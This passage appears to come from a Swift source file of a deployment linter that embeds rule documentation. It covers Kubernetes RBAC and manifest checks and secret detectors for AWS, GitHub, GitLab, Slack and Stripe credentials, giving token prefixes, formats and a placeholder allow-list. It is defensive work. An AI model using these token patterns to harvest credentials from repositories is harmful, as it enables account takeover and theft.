Plan the move to the Gateway API (Envoy Gateway, Istio, Cilium, NGINX Gateway Fabric, Traefik…), or to another maintained Ingress controller. `ingress2gateway` converts Ingress objects and common annotations.

## Example
Reported:
```yaml
spec:
  ingressClassName: nginx
```
Not reported:
```yaml
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
spec:
  parentRefs:
    - name: public
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S031.md", text: ###"""
---
id: K8S031
title: Wildcard in RBAC rules
kind: kubernetes
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.1.3: Minimize wildcard use in Roles and ClusterRoles"
  - "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
equivalents:
  checkov: CKV_K8S_49
  kube-linter: wildcard-in-rules
  trivy: KSV-0044
---
Reports each `*` in the `verbs` or `resources` of a Role or ClusterRole rule, at the `*` itself. Rules that only cover the metrics APIs (`metrics.k8s.io`, `custom.metrics.k8s.io`, `external.metrics.k8s.io`) are not reported: those APIs name resources after metrics and serve only reads, so a wildcard is how metrics adapters are granted access. (Trivy splits this check into KSV-0044, KSV-0045 and KSV-0046.)

## Why
A wildcard grants today's and tomorrow's permissions alike: `*` verbs include `escalate`, `bind` and `impersonate`; `*` resources include Secrets and every custom resource installed later. Permissions that were never listed are never reviewed.

## How to fix
List the verbs and resources the subject needs. `kubectl auth can-i --list --as=system:serviceaccount:<ns>:<name>` and the audit log show what it actually uses.

## Example
Reported:
```yaml
rules:
  - apiGroups: [""]
    resources: ["*"]
    verbs: ["*"]
```
Not reported:
```yaml
rules:
  - apiGroups: [""]
    resources: [configmaps]
    verbs: [get, list, watch]
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S032.md", text: ###"""
---
id: K8S032
title: Binding to cluster-admin
kind: kubernetes
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.1.1: Ensure that the cluster-admin role is only used where required"
  - "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles"
equivalents:
  kube-linter: cluster-admin-role-binding
  trivy: KSV-0111
---
Reports a ClusterRoleBinding (error) or RoleBinding (warning: limited to its namespace) whose `roleRef` is the `cluster-admin` ClusterRole, at the role's name, listing the subjects.

## Why
cluster-admin can do anything to any object: read every Secret, run privileged pods on any node, rewrite RBAC. A compromised subject of such a binding is a compromised cluster.

## How to fix
Bind a ClusterRole or Role that lists only the permissions needed; for humans, use the aggregated `admin`/`edit`/`view` roles per namespace.

## Example
Reported:
```yaml
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
```
Not reported:
```yaml
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: view
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S033.md", text: ###"""
---
id: K8S033
title: Selector does not match the pod template
kind: kubernetes
severity: error
tags: [reliability]
references:
  - "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/#selector"
equivalents:
  kube-linter: mismatching-selector
---
Reports a Deployment, StatefulSet, DaemonSet, ReplicaSet, ReplicationController or Job whose `spec.selector` (matchLabels and matchExpressions, or a ReplicationController's plain map) does not select its own pod template's labels, and an `apps/v1` controller with no selector at all. In a directory that holds a `kustomization.yaml`, an `apps` controller without a selector is read as a strategic-merge patch and not reported; so is, anywhere, a workload whose pod template has no containers or a container without an image (no rule judges such fragments).

## Why
The API server rejects such a manifest (`selector does not match template labels`, `spec.selector: Required value`): the apply fails, often in the middle of a release.

## How to fix
Make the pod template carry every label the selector requires. Selectors are immutable: choose them once and keep them small (`app: web`).

## Example
Reported:
```yaml
selector:
  matchLabels:
    app: web
template:
  metadata:
    labels:
      app: api
```
Not reported:
```yaml
selector:
  matchLabels:
    app: web
template:
  metadata:
    labels:
      app: web
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S034.md", text: ###"""
---
id: K8S034
title: Replica count fixed on an autoscaled workload
kind: kubernetes
severity: note
tags: [reliability]
references:
  - "https://kubernetes.io/docs/tasks/run-application/horizontal-pod-autoscale/#migrating-deployments-and-statefulsets-to-horizontal-autoscaling"
---
Reports, as a note, `spec.replicas` on a Deployment, StatefulSet, ReplicaSet or ReplicationController that a HorizontalPodAutoscaler of the same file scales.

## Why
Every `kubectl apply` of the manifest sets the replica count back to the written value, overriding the autoscaler until it reacts again: a deploy during a traffic peak scales the service down.

## How to fix
Remove `spec.replicas` from the manifest and let the autoscaler's `minReplicas` set the floor.

## Example
Reported:
```yaml
kind: Deployment
spec:
  replicas: 3
```
Not reported:
```yaml
kind: Deployment
spec:
  selector:
    matchLabels:
      app: web
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S035.md", text: ###"""
---
id: K8S035
title: Duplicate environment variable
kind: kubernetes
severity: warning
tags: [reliability, maintainability]
references:
  - "https://kubernetes.io/docs/tasks/inject-data-application/define-environment-variable-container/"
equivalents:
  kube-linter: duplicate-env-var
---
Reports an environment variable set twice in one container's `env`, at the later entry, with the first as related location.

## Why
Kubernetes accepts the duplicate and the last entry silently wins: whoever edits the first one sees no effect.

## How to fix
Keep one entry per name.

## Example
Reported:
```yaml
env:
  - name: LOG_LEVEL
    value: info
  - name: LOG_LEVEL
    value: debug
```
Not reported:
```yaml
env:
  - name: LOG_LEVEL
    value: info
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S036.md", text: ###"""
---
id: K8S036
title: API version no longer served
kind: kubernetes
severity: error
tags: [reliability, maintainability]
references:
  - "https://kubernetes.io/docs/reference/using-api/deprecation-guide/"
equivalents:
  kube-linter: no-extensions-v1beta
---
Reports an `apiVersion` that current Kubernetes versions no longer serve for the object's kind, naming the release that removed it and the replacement: `extensions/v1beta1` and `apps/v1beta1`/`v1beta2` workloads (1.16), `networking.k8s.io/v1beta1` Ingress and the v1beta1 RBAC, CRD, webhook, PriorityClass and storage APIs (1.22), `batch/v1beta1` CronJob, `policy/v1beta1` PodDisruptionBudget and `autoscaling/v2beta1` (1.25), `autoscaling/v2beta2` (1.26), and the flow-control betas (1.26, 1.29, 1.32).

## Why
The API server rejects objects of an API version it no longer serves (`no matches for kind … in version …`); the manifest cannot be applied to a current cluster. Some replacements changed fields (`spec.backend` became `spec.defaultBackend` in Ingress v1), so the migration needs a look, not only a new `apiVersion`.

## How to fix
Use the replacement version named in the message and adjust the changed fields (see the deprecation guide); `kubectl-convert` rewrites a manifest.

## Example
Reported:
```yaml
apiVersion: extensions/v1beta1
kind: Deployment
```
Not reported:
```yaml
apiVersion: apps/v1
kind: Deployment
```
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC001.md", text: ###"""
---
id: SEC001
title: AWS access key ID committed
kind: any
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html#identifiers-unique-ids
  - https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "aws-access-token"
  trufflehog: "AWS"
  checkov: "CKV_SECRET_2"
---
Reports an AWS access key ID (`AKIA…` long-term, `ASIA…` temporary) written in a linted file.

## Detectors
| detector | matches |
|---|---|
| `aws-access-key-id` | `AKIA`, `ASIA`, `ABIA` or `ACCA` and 16 base32 characters (`A`–`Z`, `2`–`7`) |

## Why
An access key ID is half of an AWS credential and is almost never committed without its secret key beside it, in the same file or the same history. Anyone who can read the repository — every clone, fork, CI log and backup — can call AWS as that principal. Automated scanners harvest public repositories for `AKIA` keys within minutes of a push.

## How to fix
Deactivate and delete the key in IAM (and check CloudTrail for its use), then stop using long-term keys in deployment files: use an IAM role (instance profile, IRSA/EKS Pod Identity, ECS task role) or GitHub's OIDC federation (`aws-actions/configure-aws-credentials` with `role-to-assume`). Where a key is unavoidable, pass it at run time from a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```hcl
provider "aws" {
  access_key = "AKIA…"   # 20 characters
  secret_key = "…"
}
```

Not reported:

```hcl
provider "aws" {
  region = var.region   # credentials from the environment, an instance role or OIDC
}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC002.md", text: ###"""
---
id: SEC002
title: AWS secret access key committed
kind: any
severity: error
tags: [security]
security-severity: 9.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html
  - https://docs.aws.amazon.com/sdkref/latest/guide/feature-static-credentials.html
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "aws-access-token"
  trufflehog: "AWS"
---
Reports a 40-character AWS secret access key assigned to a key that names it (`AWS_SECRET_ACCESS_KEY`, `aws_secret_access_key`, `secretAccessKey`).

## Detectors
| detector | matches |
|---|---|
| `aws-secret-access-key` | 40 base64 characters assigned to a key named like `aws_secret_access_key`, `AWS_SECRET_KEY`, `secretAccessKey` |

## Why
The secret access key is the private half of an AWS access key: with it and the key ID, anyone can act with the principal's permissions. A 40-character base64 string alone is too common to flag, so this rule requires the key name beside it; a bare `secret_key = "…"` is left to SEC029.

## How to fix
Deactivate the access key in IAM and create a new one only if a role or OIDC federation cannot replace it. Read credentials from the environment, the instance or task role, or a secrets manager; never from a committed file.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
env:
  AWS_SECRET_ACCESS_KEY: wJal…   # 40 characters
```

Not reported:

```yaml
permissions:
  id-token: write
steps:
  - uses: aws-actions/configure-aws-credentials@<full-sha>
    with:
      role-to-assume: arn:aws:iam::123456789012:role/deploy
      aws-region: eu-west-1
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC003.md", text: ###"""
---
id: SEC003
title: GitHub token committed
kind: any
severity: error
tags: [security]
security-severity: 8.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://github.blog/engineering/behind-githubs-new-authentication-token-formats/
  - https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/about-authentication-to-github#githubs-token-formats
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "github-pat, github-fine-grained-pat, github-oauth, github-app-token, github-refresh-token"
  trufflehog: "Github"
---
Reports GitHub tokens by their documented prefixes: classic (`ghp_`) and fine-grained (`github_pat_`) personal access tokens, OAuth tokens (`gho_`), GitHub App user and installation tokens (`ghu_`, `ghs_`) and refresh tokens (`ghr_`).

## Detectors
| detector | matches |
|---|---|
| `github-pat-classic` | `ghp_` and 36 letters or digits |
| `github-pat-fine-grained` | `github_pat_`, 22 letters or digits, `_`, 59 letters or digits |
| `github-oauth-token` | `gho_` and 36 letters or digits |
| `github-app-token` | `ghu_` (user-to-server) or `ghs_` (installation) and 36 letters or digits |
| `github-refresh-token` | `ghr_` and 36 to 76 letters or digits |

## Why
A GitHub token acts as its owner on every repository it can reach: it can read private code, push commits, change workflows and read Actions secrets. Tokens in a workflow file are readable by anyone with read access to the repository, and in a public repository by everyone.

## How to fix
Revoke the token (Settings → Developer settings, or the organization's token audit), then use the workflow's own `GITHUB_TOKEN` with minimal `permissions:`, a GitHub App installation token, or an Actions secret referenced as `${{ secrets.NAME }}`.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
env:
  GH_TOKEN: ghp_…   # 40 characters
```

Not reported:

```yaml
permissions:
  contents: write
env:
  GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC004.md", text: ###"""
---
id: SEC004
title: GitLab token committed
kind: any
severity: error
tags: [security]
security-severity: 8.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.gitlab.com/security/tokens/
  - https://docs.gitlab.com/ci/runners/new_creation_workflow/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "gitlab-pat, gitlab-ptt, gitlab-rrt, gitlab-runner-authentication-token, gitlab-deploy-token"
  trufflehog: "Gitlab"
---
Reports GitLab personal access tokens (`glpat-`), pipeline trigger tokens (`glptt-`), runner registration (`GR1348941…`) and authentication (`glrt-`) tokens and deploy tokens (`gldt-`).

## Detectors
| detector | matches |
|---|---|
| `gitlab-pat` | `glpat-` and 20 or more URL-safe characters |
| `gitlab-pipeline-trigger-token` | `glptt-` and 40 hex digits |
| `gitlab-runner-registration-token` | `GR1348941` and 20 URL-safe characters |
| `gitlab-runner-authentication-token` | `glrt-` and 20 or more URL-safe characters |
| `gitlab-deploy-token` | `gldt-` and 20 or more URL-safe characters |

## Why
GitLab tokens grant API, repository, registry or runner access to whoever holds them; a runner token lets an attacker register a runner and receive your CI jobs and their secrets.

## How to fix
Revoke the token in GitLab (user, project or group settings; runners: reset the token), then pass it as a masked CI/CD variable or from a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
environment:
  REGISTRATION_TOKEN: GR1348941…
```

Not reported:

```yaml
environment:
  REGISTRATION_TOKEN: ${RUNNER_TOKEN:?set RUNNER_TOKEN}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC005.md", text: ###"""
---
id: SEC005
title: Slack token committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://api.slack.com/authentication/token-types
  - https://api.slack.com/authentication/best-practices
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "slack-bot-token, slack-user-token, slack-app-token, slack-legacy-token"
  trufflehog: "Slack"
  checkov: "CKV_SECRET_14"
---
Reports Slack bot (`xoxb-`), user (`xoxp-`), app-level (`xapp-`) and legacy or workspace (`xoxa-`, `xoxo-`, `xoxr-`, `xoxs-`) tokens.

## Detectors
| detector | matches |
|---|---|
| `slack-bot-token` | `xoxb-`, two numeric ids, 20–40 letters or digits |
| `slack-user-token` | `xoxp-`, three numeric ids, 28–40 letters or digits |
| `slack-app-token` | `xapp-`, a digit, an app id, a numeric id and 32–80 letters or digits |
| `slack-legacy-token` | `xoxa-`, `xoxo-`, `xoxr-`, `xoxs-` with numeric ids and 16–64 letters or digits |

## Why
A Slack token reads and posts in every channel its scopes allow; a user token acts as the person who created it, with access to their private messages.

## How to fix
Revoke the token (the app's OAuth & Permissions page, or `auth.revoke`), reinstall the app to issue a new one, and keep it in a Kubernetes Secret created outside git, an Actions secret or a secrets manager.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
stringData:
  SLACK_BOT_TOKEN: xoxb-…
```

Not reported:

```yaml
env:
  - name: SLACK_BOT_TOKEN
    valueFrom:
      secretKeyRef: {name: slack-bot, key: token}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC006.md", text: ###"""
---
id: SEC006
title: Slack webhook URL committed
kind: any
severity: error
tags: [security]
security-severity: 6.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://api.slack.com/messaging/webhooks
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "slack-webhook-url"
  trufflehog: "SlackWebhook"
---
Reports Slack incoming-webhook URLs (`https://hooks.slack.com/services/T…/B…/…`, also `workflows/` and `triggers/`); the path after `services/` is the credential and is what gets redacted.

## Detectors
| detector | matches |
|---|---|
| `slack-webhook-url` | `https://hooks.slack.com/services/` (or `workflows/`, `triggers/`) `T…/B…/` and the 18–40 character secret |

## Why
Anyone with the URL can post messages into the channel as your integration: phishing links in an internal channel look trustworthy.

## How to fix
Regenerate the webhook in the Slack app's Incoming Webhooks page (which invalidates the old URL) and store the new one as a secret.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
- run: curl -d @payload.json https://hooks.slack.com/services/T…/B…/…
```

Not reported:

```yaml
- run: curl -d @payload.json "$SLACK_WEBHOOK_URL"
  env:
    SLACK_WEBHOOK_URL: ${{ secrets.SLACK_WEBHOOK_URL }}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC007.md", text: ###"""
---
id: SEC007
title: Stripe live API key committed
kind: any
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.stripe.com/keys
  - https://docs.stripe.com/keys-best-practices
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "stripe-access-token"
  trufflehog: "Stripe"
  checkov: "CKV_SECRET_17"
---
Reports Stripe live-mode secret keys (`sk_live_`) and restricted keys (`rk_live_`). Test-mode keys (`sk_test_`, `rk_test_`) and publishable keys (`pk_live_`, `pk_test_`) are not reported, by this rule or by SEC029: test keys move no money and publishable keys are public by design.

## Detectors
| detector | matches |
|---|---|
| `stripe-live-secret-key` | `sk_live_` and 20 or more letters or digits |
| `stripe-live-restricted-key` | `rk_live_` and 20 or more letters or digits |

## Why
A live secret key can create charges, issue refunds and payouts and read customer data on your account.

## How to fix
Roll the key in the Stripe dashboard (Developers → API keys), prefer restricted keys with the permissions the service needs, and inject the key at run time.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
STRIPE_SECRET_KEY=sk_live_…
```

Not reported:

```dotenv
# .env.example — the real key lives in the deployment's secret store
STRIPE_SECRET_KEY=
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
